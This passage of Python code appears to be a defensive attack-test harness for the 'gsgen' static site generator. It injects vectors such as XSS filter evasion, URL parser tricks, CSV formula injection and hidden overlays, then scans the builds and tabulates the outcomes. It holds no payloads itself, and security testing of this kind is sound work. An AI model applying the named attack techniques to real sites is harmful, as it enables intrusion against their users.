    markers = [replace(c, text=f"<p>gsgen-calibration-{n}</p>") for n, c in enumerate(cases)]
    files, placed = site_files(markers)
    build = settler.work.build(files)
    page = build.out / "404.html"
    if build.code != 0 or not page.is_file():
        return
    for number, line in enumerate(page.read_text("utf-8").split("\n"), start=1):
        if m := re.search(r"gsgen-calibration-(\d+)<", line):
            settler.theme_offset = number - (placed[int(m[1])].line or 0)
            break
    settler.baseline |= {f.message for f in scan_folder(build.out)}


def baseline_findings() -> list[Finding]:
    """What the scanner finds in the site every entry point starts from, before any vector."""
    root = Path(tempfile.mkdtemp(prefix="gsgen-attacks-base-"))
    try:
        build = Workspace(root).build(base_files())
        if build.code != 0:
            raise RuntimeError(f"the base site does not build:\n{build.text}")
        return scan_folder(build.out)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _jobs(entries: Iterable[str], baseline: set[str]) -> list[Job]:
    jobs: list[Job] = []
    for entry in entries:
        cases = ENTRIES[entry]()
        if entry != "config":
            jobs.append((entry, cases, baseline))
            continue
        jobs += [(entry, group, baseline) for group in _config_groups(cases)]
    return sorted(jobs, key=lambda j: -len(j[1]))  # the big groups first; small config builds fill the gaps


def _config_groups(cases: list[Case]) -> list[list[Case]]:
    """config.yaml cases in builds of six: the five site fields and one column's url, each set to a
    different vector (none the same as another once spaces and case are dropped), so that each
    finding's value names one case. colors.primary, a stylesheet, alone."""
    queues: dict[str, list[Case]] = defaultdict(list)
    for c in cases:
        queues[c.placement].append(c)
    groups = [[c] for c in queues.pop("colors.primary", [])]
    start = 0
    while any(queues.values()):
        group: list[Case] = []
        for n, queue in enumerate(queues.values()):
            taken = {comparable(c.value or "") for c in group}
            # each field starts at a different vector, so one build holds different vectors
            order = queue[(start + 7 * n) % len(queue) :] + queue[: (start + 7 * n) % len(queue)] if queue else []
            pick = next((c for c in order if comparable(c.value or "") not in taken), None)
            if pick is not None:
                group.append(pick)
                queue.remove(pick)
        groups.append(group)
        start += 1
    return groups


def run_entries(entries: Iterable[str] = ENTRIES, workers: int = 0) -> dict[str, Outcome]:
    """Every case of `entries` with its outcome, the builds spread over the machine's cores."""
    jobs = _jobs(list(entries), {f.message for f in baseline_findings()})
    workers = workers or os.cpu_count() or 1
    results: dict[str, Outcome] = {}
    if workers == 1:
        for job in jobs:
            results |= _run_job(job)
        return results
    # forked workers inherit the imported gsgen; each build renders in its own worker (-j 1)
    with ProcessPoolExecutor(max_workers=workers, mp_context=get_context("fork")) as pool:
        for found in pool.map(_run_job, jobs):
            results |= found
    return results


# ================================================================ the table

CLASS_LABELS = {
    "xss": "(a) XSS filter evasion",
    "url": "(b) URL parser tricks",
    "style": "(c) hiding/overlay/loading CSS",
    # issue 28
    "attach": "(d) active content in attachments",
    "csv": "(e) formulas in CSV downloads",
    "xml": "(f) control characters in feeds",
    "future": "(g) items dated after now",
    "darklink": "(h) hidden links, site theme",
    "terminal": "(i) control characters printed",
    "exhaust": "(j) exhaustion, misplaced errors",
    "personal": "(k) ID numbers in unread places",
}


def table(outcomes: dict[str, Outcome]) -> str:
    cases = [c for c in all_cases() if c.id in outcomes]
    rows = [(label, [c for c in cases if c.vector.cls == k]) for k, label in CLASS_LABELS.items()]
    rows = [(label, group) for label, group in rows if group]
    rows.append(("total", cases))
    rows += [(f"  entry: {e}", group) for e in ENTRIES if (group := [c for c in cases if c.entry == e])]
    heads = ("tried", "refused", "unclear", "clean", "UNSAFE", "CRASH", "TIMEOUT")
    lines = [f"{'':32}" + "".join(f"{h:>9}" for h in heads)]
    for label, group in rows:
        counts = Counter(outcomes[c.id].status for c in group)
        lines.append(f"{label:32}{len(group):>9}" + "".join(f"{counts[s]:>9}" for s in STATUSES))
    lines.append(
        "refused = exit 1 with an error naming the file (and line) that carried the vector; unclear = exit 1"
        " without one;\nclean = built and the scanner finds nothing; UNSAFE = built with unsafe output (or built over"
        " one of gsgen's bounds);"
        " CRASH = exit 70, 内部错误 or a traceback;\nTIMEOUT = a build stopped after BUILD_SECONDS"
    )
    return "\n".join(lines)


def failures(outcomes: dict[str, Outcome], statuses: Iterable[str] = ("crash", "unsafe", "unclear")) -> str:
    wanted = list(statuses)
    cases = sorted(
        (c for c in all_cases() if c.id in outcomes),
        key=lambda c: wanted.index(outcomes[c.id].status) if outcomes[c.id].status in wanted else 99,
    )
    return "\n".join(
        f"[{outcomes[c.id].status}] {c.id}\n    " + "\n    ".join(outcomes[c.id].details[:3])
        for c in cases
        if outcomes[c.id].status in wanted
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.attacks", description="gsgen attack harness")
    parser.add_argument("--table", action="store_true", help="run every case and print the summary table")
    parser.add_argument("--details", action="store_true", help="also list each crashing, unsafe or unclear case")
    parser.add_argument("--entry", action="append", choices=list(ENTRIES), help="only these entry points")
    parser.add_argument("--new", action="store_true", help="only the entry points of issue 28 (attachments, …)")
    parser.add_argument("--workers", type=int, default=0, help="processes (default: one per core)")
    args = parser.parse_args(argv)
    if not (args.table or args.details):
        parser.print_help()
        return 2
    started = time.monotonic()
    outcomes = run_entries(args.entry or (list(NEW_ENTRIES) if args.new else list(ENTRIES)), args.workers)
    print(table(outcomes))
    print(f"\n{len(VECTORS)} vectors, {len(outcomes)} cases, {time.monotonic() - started:.1f} s")
    base = dict.fromkeys(f.message for f in baseline_findings())
    if base:
        print("\nThe site without any vector already shows (subtracted from every case):")
        print("".join(f"  {m}\n" for m in base), end="")
    if args.details:
        print("\n" + failures(outcomes))
    return 0


if __name__ == "__main__":
    sys.exit(main())
